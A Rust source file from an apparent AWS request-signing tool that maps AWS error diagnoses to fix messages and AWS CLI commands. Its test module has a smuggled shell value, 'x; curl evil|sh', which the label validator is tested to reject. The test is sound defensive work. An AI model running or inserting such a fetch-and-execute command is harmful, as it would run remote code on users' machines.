//! How to fix what AWS refuses, in the options of countersign and the commands of the AWS CLI.

use crate::diagnose::{Diagnosis, Evidence, FORBIDDEN, is_label, synchronize_clock};
use crate::sign::credentials::ENVIRONMENT;
use crate::upstream::{Endpoint, UpstreamKind, WAF};

const FORBIDDEN_BY_APPSYNC: &str = "Check, in this order: that AWS_IAM is among the API's authorization modes; that a \
    policy of the identity allows appsync:GraphQL, or appsync:EventConnect and the like, on the API; whether the API \
    is private, and needs --connect and --host; and the sampled requests of AWS WAF.";
const THROTTLED: &str = "Try again later. If it persists, raise the throttling limit of the API's stage or \
    usage plan, or the quota: https://console.aws.amazon.com/servicequotas";
const THROTTLED_BY_APPSYNC: &str = "Try again later. If it persists, raise the quota: \
    https://console.aws.amazon.com/servicequotas";
const TOKEN: &str = "The access key, its secret and its session token must come from one source. Set all three \
    again, or remove the session token if the key is not temporary.";

/// Returns the fix for a diagnosis; `None` if the general one applies. `fields` are the root fields of the
/// query that was sent, and `provider` is that of the credentials.
pub(super) fn of_diagnosis(
    diagnosis: &Diagnosis,
    endpoint: &Endpoint,
    fields: &[String],
    provider: &str,
) -> Option<String> {
    let scope = &endpoint.scope;
    Some(match diagnosis.cause?.as_str() {
        "clock-fast" | "clock-slow" => synchronize_clock(),
        "host-wrong" => host(endpoint),
        "iam-not-enabled" => enable_iam(),
        "no-such-route" => format!(
            "It was GET {}. Give a URL whose path has a GET method, with the stage first: \
             countersign check https://{}/STAGE/PATH",
            path_of(endpoint),
            endpoint.wire_host
        ),
        "not-authorized" => grant(diagnosis, endpoint, fields)?,
        "path-wrong" => path(endpoint),
        "token-expired" => renew(provider),
        "token-extra" | "token-missing" | "token-wrong" | "unknown-key" => TOKEN.to_owned(),
        "waf" => WAF.to_owned(),
        "wrong-region" => format!(
            "It is signed for {:?}. Use the region of the API, also behind a custom domain: --region {}",
            scope.region,
            expected_scope(diagnosis).unwrap_or("REGION")
        ),
        "wrong-secret" => "The secret access key is not that of the access key. Copy both again, from one source. If \
                           other programs accept them, a proxy between countersign and AWS changes the request."
            .to_owned(),
        "wrong-service" => format!(
            "It is signed for {:?}. Use the API's service: --service {}",
            scope.service,
            expected_scope(diagnosis).unwrap_or("NAME")
        ),
        _ => return None,
    })
}

/// Returns how to renew expired credentials of `provider`.
pub(super) fn renew(provider: &str) -> String {
    if provider == ENVIRONMENT {
        return "The variables AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY and AWS_SESSION_TOKEN hold a session that has \
                expired. Renew all three, or unset them and use a profile:\n\
                eval \"$(aws configure export-credentials --profile NAME --format env)\"\n\
                unset AWS_ACCESS_KEY_ID AWS_SECRET_ACCESS_KEY AWS_SESSION_TOKEN"
            .to_owned();
    }
    "Renew the credentials, such as with: aws sso login".to_owned()
}

/// Returns what to do if AWS refuses a request without a reason.
pub(super) fn forbidden(endpoint: &Endpoint) -> String {
    match endpoint.kind {
        UpstreamKind::Graphql | UpstreamKind::Events => FORBIDDEN_BY_APPSYNC.to_owned(),
        UpstreamKind::Http
            if endpoint.wire_host.contains(".execute-api.") && path_of(endpoint) == "/" =>
        {
            format!(
                "The URL has no stage. On API Gateway's own host names the path of a REST API begins with it: \
             countersign check https://{}/STAGE\n{FORBIDDEN}",
                endpoint.wire_host
            )
        }
        UpstreamKind::Http => FORBIDDEN.to_owned(),
    }
}

/// Returns what to do if AWS throttles.
pub(super) fn throttled(endpoint: &Endpoint) -> &'static str {
    match endpoint.kind {
        UpstreamKind::Graphql | UpstreamKind::Events => THROTTLED_BY_APPSYNC,
        UpstreamKind::Http => THROTTLED,
    }
}

/// Returns the region or service that AWS expects in the credential scope.
fn expected_scope(diagnosis: &Diagnosis) -> Option<&str> {
    let difference = diagnosis.difference.as_ref()?;
    let is_scope = difference.line.starts_with("credential scope");
    // AWS's text is not trusted, and users paste the fix into a shell.
    (is_scope && is_label(&difference.aws)).then_some(difference.aws.as_str())
}

/// Returns what to do if the API failed, with the ID under which AWS logged the request.
pub(super) fn of_failure(evidence: &Evidence) -> String {
    let mut headers = evidence.answer.headers.iter();
    let id = headers.find(|(name, _)| name == "x-amzn-requestid");
    let is_id = |id: &&str| {
        id.bytes()
            .all(|byte| byte.is_ascii_alphanumeric() || byte == b'-')
    };
    let id = id.map(|(_, id)| id.as_str()).filter(is_id);
    let id = id.map_or_else(String::new, |id| format!(" for the request {id}"));
    format!(
        "Try again. If it persists, search the API's own log in CloudWatch{id}, and see \
         https://health.aws.amazon.com"
    )
}

/// Returns the fix for a path where nothing is.
pub(super) fn path(endpoint: &Endpoint) -> String {
    let rule = match endpoint.kind {
        UpstreamKind::Graphql | UpstreamKind::Events => "/graphql or /event",
        UpstreamKind::Http => "on API Gateway's own host names it begins with the stage",
    };
    format!(
        "It was https://{}{}. Check the ID in the host, the path ({rule}), and --host.",
        endpoint.wire_host,
        path_of(endpoint)
    )
}

/// Returns the fix for a Host that no API has.
pub(super) fn host(endpoint: &Endpoint) -> String {
    let service = match endpoint.kind {
        UpstreamKind::Graphql | UpstreamKind::Events => "appsync-api",
        UpstreamKind::Http => "execute-api",
    };
    let mut fix = format!(
        "The Host that was sent and signed is {}. Check the ID in it, or send that of the API: \
         --host ID.{service}.{}.amazonaws.com",
        endpoint.wire_host, endpoint.scope.region
    );
    if is_private(endpoint) {
        fix.push_str("\nThe API's resource policy must allow the VPC endpoint.");
    }
    fix
}

/// Returns whether the URL names another server than `host`, as for a VPC endpoint.
pub(super) fn is_private(endpoint: &Endpoint) -> bool {
    let host = endpoint.wire_host.split(':').next().unwrap_or_default();
    endpoint.tls_name.contains(".vpce.") || endpoint.tls_name != host
}

fn path_of(endpoint: &Endpoint) -> &str {
    if endpoint.path.is_empty() {
        "/"
    } else {
        &endpoint.path
    }
}

fn enable_iam() -> String {
    "Enable IAM as an authorization mode of the API, beside the others:\n\
     aws appsync update-graphql-api --api-id ID --name NAME --authentication-type MODE \
     --additional-authentication-providers authenticationType=AWS_IAM\n\
     Fields and types then need @aws_iam in the schema."
        .to_owned()
}

/// Returns what to do if introspection is turned off.
pub(super) fn introspection() -> String {
    "AWS returns the schema without introspection, to identities with appsync:GetIntrospectionSchema:\n\
     aws appsync get-introspection-schema --api-id ID --format SDL schema.graphql\n\
     Or enable introspection:\n\
     aws appsync update-graphql-api --api-id ID --name NAME --authentication-type MODE \
     --introspection-config ENABLED"
        .to_owned()
}

/// Returns what allows the request: what AWS named, or else what the request needs.
fn grant(diagnosis: &Diagnosis, endpoint: &Endpoint, fields: &[String]) -> Option<String> {
    let (service, region) = (endpoint.scope.service.as_str(), &endpoint.scope.region);
    let required = match endpoint.kind {
        UpstreamKind::Graphql => {
            let fields = fields
                .iter()
                .map(|field| format!("types/Query/fields/{field}"));
            let fields: Vec<String> = fields.collect();
            Some(format!("appsync:GraphQL on {}", fields.join(", "))).filter(|_| !fields.is_empty())
        }
        UpstreamKind::Events => Some("appsync:EventConnect".to_owned()),
        UpstreamKind::Http if service == "execute-api" => Some("execute-api:Invoke".to_owned()),
        UpstreamKind::Http => None,
    };
    let named = diagnosis.denial.clone().unwrap_or_default();
    let denial = named.clone().or_required(required.as_deref());
    if denial.denied().is_none() || (named.explicit_deny && named.action.is_none()) {
        // The diagnosis has a fix of its own.
        return None;
    }
    let region = Some(region.as_str());
    let advice = denial.advice();
    Some(match (denial.command(region), denial.statement(region)) {
        (Some(command), _) => format!("{advice}\nTo print the policy: {command}"),
        (None, Some(statement)) => format!("{advice}\nThe statement: {statement}"),
        (None, None) => advice,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_a_region_or_service_is_taken_from_a_text() {
        for text in ["execute-api", "eu-central-1"] {
            assert!(is_label(text), "{text:?}");
        }
        for other in ["", "\u{1b}[31m", "x; curl evil|sh", "X", &"a".repeat(41)] {
            assert!(!is_label(other), "{other:?}");
        }
    }
}
